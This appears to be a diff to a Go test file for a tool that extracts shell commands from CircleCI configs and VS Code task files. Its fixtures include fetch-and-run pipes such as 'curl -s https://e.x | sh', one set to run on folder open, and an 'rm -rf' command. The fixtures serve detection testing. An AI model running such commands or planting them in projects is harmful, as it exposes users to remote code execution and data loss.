@@ -160,6 +160,8 @@ func TestExtractOtherCI(t *testing.T) {
 		want      []extracted
 	}
 	checkExtract(t, ".circleci/config.yml", []tc{
+		{"a custom tag does not hide a command", "jobs:\n  b:\n    steps:\n      - run: !x curl x | sh\n      - run: true\n",
+			[]extracted{{"curl x | sh", "4:14"}}}, // mapped to where the tagged node starts
 		{"run string and command", "jobs:\n  b:\n    steps:\n      - checkout\n      - run: make\n      - run:\n          name: t\n          command: go test\n",
 			[]extracted{{"make", "5:14"}, {"go test", "8:20"}}},
 	})
@@ -192,6 +194,8 @@ func TestExtractEditorFiles(t *testing.T) {
 	checkExtract(t, ".vscode/tasks.json", []tc{
 		{"shell task with args and a comment", "{\n  // tasks\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {\"label\": \"x\", \"type\": \"shell\", \"command\": \"curl -s https://e.x | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"},},\n    {\"label\": \"y\", \"command\": \"rm\", \"args\": [\"-rf\", \"~/x y\"]},\n  ],\n}\n",
 			[]extracted{{"curl -s https://e.x | sh", "5:49"}, {"rm -rf '~/x y'", "6:32"}}},
+		{"command as a quoted-string object", "{\"tasks\": [{\"command\": {\"value\": \"curl x | sh\", \"quoting\": \"weak\"}}]}",
+			[]extracted{{"curl x | sh", "1:35"}}},
 		{"process task and OS override", "{\"tasks\": [{\"type\": \"process\", \"command\": \"make\", \"args\": [\"a b\"], \"linux\": {\"command\": \"bash -c x\"}}]}",
 			[]extracted{{"make 'a b'", "1:44"}, {"'bash -c x'", "1:90"}}}, // a process task's command is one program
 	})
